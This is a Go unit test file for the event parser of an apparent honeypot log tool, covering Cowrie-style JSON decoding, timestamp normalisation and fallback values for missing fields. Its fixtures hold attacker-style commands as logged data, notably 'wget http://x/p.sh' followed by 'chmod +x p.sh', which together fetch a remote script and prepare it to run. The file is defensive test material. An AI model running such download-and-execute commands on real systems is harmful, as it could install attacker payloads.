package parser

import (
	"errors"
	"honeyguard/internal/types"
	"testing"
	"time"
)

func TestDecodeLine_Canonical(t *testing.T) {
	raw, kind, err := DecodeLine(`{"timestamp":"2025-07-01T14:32:10Z","session":"s1","src_ip":"10.0.0.5","command":"wget http://x/p.sh"}`)
	if err != nil {
		t.Fatalf("Expected no error, got %v", err)
	}
	if kind != KindCommand {
		t.Errorf("Expected KindCommand, got %s", kind)
	}
	if raw.Session != "s1" || raw.SrcIP != "10.0.0.5" || raw.Command != "wget http://x/p.sh" {
		t.Errorf("Unexpected raw event: %+v", raw)
	}
}

func TestDecodeLine_CowrieCommand(t *testing.T) {
	line := `{"eventid":"cowrie.command.input","input":"chmod +x p.sh","message":"CMD: chmod +x p.sh","sensor":"hp1","timestamp":"2025-07-01T14:32:11.123456Z","src_ip":"10.0.0.5","session":"a1b2c3"}`
	raw, kind, err := DecodeLine(line)
	if err != nil {
		t.Fatalf("Expected no error, got %v", err)
	}
	if kind != KindCommand {
		t.Errorf("Expected KindCommand, got %s", kind)
	}
	want := types.RawEvent{Timestamp: "2025-07-01T14:32:11.123456Z", Session: "a1b2c3", SrcIP: "10.0.0.5", Command: "chmod +x p.sh"}
	if raw != want {
		t.Errorf("Expected %+v, got %+v", want, raw)
	}
}

func TestDecodeLine_CowrieOtherEvents(t *testing.T) {
	_, kind, err := DecodeLine(`{"eventid":"cowrie.session.closed","session":"a1b2c3","timestamp":"2025-07-01T14:40:00Z","duration":12.5}`)
	if err != nil || kind != KindSessionClosed {
		t.Errorf("Expected KindSessionClosed, got %s (err %v)", kind, err)
	}

	_, kind, err = DecodeLine(`{"eventid":"cowrie.login.failed","username":"root","session":"a1b2c3"}`)
	if err != nil || kind != KindIgnored {
		t.Errorf("Expected KindIgnored, got %s (err %v)", kind, err)
	}
}

func TestDecodeLine_Malformed(t *testing.T) {
	if _, _, err := DecodeLine("   "); !errors.Is(err, ErrEmptyLine) {
		t.Errorf("Expected ErrEmptyLine, got %v", err)
	}
	if _, _, err := DecodeLine("not json"); err == nil {
		t.Error("Expected decode error for non-JSON line")
	}
}

func TestDecodeLine_WrongTypedFieldsUseSentinel(t *testing.T) {
	raw, kind, err := DecodeLine(`{"timestamp":"2025-07-01T14:32:10Z","session":42,"src_ip":123,"command":["ls"]}`)
	if err != nil {
		t.Fatalf("Expected no error, got %v", err)
	}
	if kind != KindCommand {
		t.Errorf("Expected KindCommand, got %s", kind)
	}

	evt, err := Normalize(raw)
	if err != nil {
		t.Fatalf("Expected no error, got %v", err)
	}
	if evt.SessionID != types.Unknown || evt.SourceIP != types.Unknown || evt.Command != types.Unknown {
		t.Errorf("Expected sentinel fields, got %+v", evt)
	}

	raw, _, err = DecodeLine(`{"timestamp":1720000000,"session":"s1","src_ip":"10.0.0.5","command":"ls"}`)
	if err != nil {
		t.Fatalf("Expected no error, got %v", err)
	}
	if _, err := Normalize(raw); !errors.Is(err, ErrInvalidTimestamp) {
		t.Errorf("Expected ErrInvalidTimestamp for numeric timestamp, got %v", err)
	}
}

func TestNormalize_Valid(t *testing.T) {
	evt, err := Normalize(types.RawEvent{
		Timestamp: "2025-07-01T14:32:10Z",
		Session:   "s1",
		SrcIP:     "10.0.0.5",
		Command:   "uname -a",
	})
	if err != nil {
		t.Fatalf("Expected no error, got %v", err)
	}

	want := time.Date(2025, 7, 1, 14, 32, 10, 0, time.UTC)
	if !evt.OccurredAt.Equal(want) {
		t.Errorf("Expected %v, got %v", want, evt.OccurredAt)
	}
	if evt.SessionID != "s1" || evt.SourceIP != "10.0.0.5" || evt.Command != "uname -a" {
		t.Errorf("Unexpected event: %+v", evt)
	}
}

func TestNormalize_TimestampLayouts(t *testing.T) {
	want := time.Date(2025, 7, 1, 14, 32, 10, 0, time.UTC)
	for _, ts := range []string{
		"2025-07-01T14:32:10Z",
		"2025-07-01T14:32:10+00:00",
		"2025-07-01T16:32:10+02:00",
		"2025-07-01T14:32:10",
		"2025-07-01 14:32:10",
	} {
		evt, err := Normalize(types.RawEvent{Timestamp: ts})
		if err != nil {
			t.Errorf("%s: unexpected error %v", ts, err)
			continue
		}
		if !evt.OccurredAt.Equal(want) {
			t.Errorf("%s: expected %v, got %v", ts, want, evt.OccurredAt)
		}
	}
}

func TestNormalize_MissingFieldsUseSentinel(t *testing.T) {
	evt, err := Normalize(types.RawEvent{Timestamp: "2025-07-01T14:32:10Z", Session: "  "})
	if err != nil {
		t.Fatalf("Expected no error, got %v", err)
	}
	if evt.SessionID != types.Unknown || evt.SourceIP != types.Unknown || evt.Command != types.Unknown {
		t.Errorf("Expected sentinel values, got %+v", evt)
	}
}

func TestNormalize_BadTimestamp(t *testing.T) {
	for _, ts := range []string{"", "yesterday", "2025-13-01T00:00:00Z"} {
		_, err := Normalize(types.RawEvent{Timestamp: ts, Session: "s1"})

		var nerr *NormalizationError
		if !errors.As(err, &nerr) {
			t.Errorf("%q: expected NormalizationError, got %v", ts, err)
			continue
		}
		if !errors.Is(err, ErrInvalidTimestamp) {
			t.Errorf("%q: expected ErrInvalidTimestamp in chain", ts)
		}
	}
}
